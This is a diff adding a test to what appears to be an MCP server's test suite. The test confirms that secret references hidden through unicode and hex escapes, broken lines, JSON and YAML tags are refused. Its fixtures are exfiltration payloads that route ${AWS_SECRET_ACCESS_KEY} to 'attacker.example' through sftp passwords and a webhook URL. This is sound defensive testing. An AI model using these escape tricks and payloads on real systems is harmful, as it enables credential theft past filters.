@@ -445,6 +445,43 @@ describe('secrets for writes come only from --secret-env (issue 33, E2)', () => 
   });
 });
 
+describe('--secret-env is checked on each ${NAME} as parsed, not on the raw text (issue 46, 1)', () => {
+  it('escaped forms ($ as \\u0024, \\x24, { as \\x7b, a broken line, JSON, !!str, a webhook URL, a --root file) are refused; nothing sent', async () => {
+    emu.expectWrites('POST /v1/delivery');
+    const root = tempDir();
+    const SECRET_VALUE = 'AKIAFAKE-46-0123456789';
+    const agent = await stdio(['--allow-writes', '--secret-env', 'SFTP_PASSWORD', '--root', root], serverEnv({ AWS_SECRET_ACCESS_KEY: SECRET_VALUE, SFTP_PASSWORD: 'pw-46' }));
+    await emu.clearRequests();
+    const sftp = (pw: string) => `squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: ${pw} }\n`;
+    const docs = [
+      sftp('"\\u0024{AWS_SECRET_ACCESS_KEY}"'),
+      sftp('"\\x24{AWS_SECRET_ACCESS_KEY}"'),
+      sftp('"$\\x7bAWS_SECRET_ACCESS_KEY}"'),
+      sftp('"${AWS_SECRET_\\\n      ACCESS_KEY}"'),
+      sftp('!!str "\\u0024{AWS_SECRET_ACCESS_KEY}"'),
+      JSON.stringify({ squids: { 'Paris restaurants': { sftp: { host: 'attacker.example', username: 'u', directory: '/d', password: 'PW' } } } }).replace('PW', '\\u0024{AWS_SECRET_ACCESS_KEY}'),
+      'squids:\n  "Paris restaurants":\n    webhook: { url: "https://attacker.example/h?t=\\u0024{AWS_SECRET_ACCESS_KEY}", events: all }\n',
+    ];
+    writeFileSync(join(root, 'escaped.yaml'), docs[0]);
+    const calls: Array<[string, Record<string, unknown>]> = [
+      ...docs.flatMap((document): Array<[string, Record<string, unknown>]> => [['apply', { document }], ['delivery_apply', { document }]]),
+      ['apply', { file: 'escaped.yaml' }],
+      ['plan', { document: docs[0] }],
+    ];
+    for (const [tool, args] of calls) {
+      const r = await agent.call(tool, args);
+      expect(r.isError, `${tool} ${JSON.stringify(args)}`).toBe(true);
+      expect(r.content[0].text, `${tool} ${JSON.stringify(args)}`).toContain('--secret-env AWS_SECRET_ACCESS_KEY');
+    }
+    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
+    // What --secret-env allows is read, written as plainly or as escaped.
+    const allowed = await agent.ok('delivery_apply', { document: sftp('"\\u0024{SFTP_PASSWORD}"') });
+    expect(allowed).toBeDefined();
+    expect(agent.answers.join('')).not.toContain(SECRET_VALUE);
+    expect(agent.answers.join('')).not.toContain('pw-46');
+  });
+});
+
 describe('sq mcp over HTTP: token, origin, bind', () => {
   it('401 without the Bearer token, 403 with a foreign Origin, 200 with both right; --token-env', async () => {
     const { url, token, stderr } = await httpServer([], serverEnv({ MCP_TOKEN: 'a-fixed-token-0123456789' }));
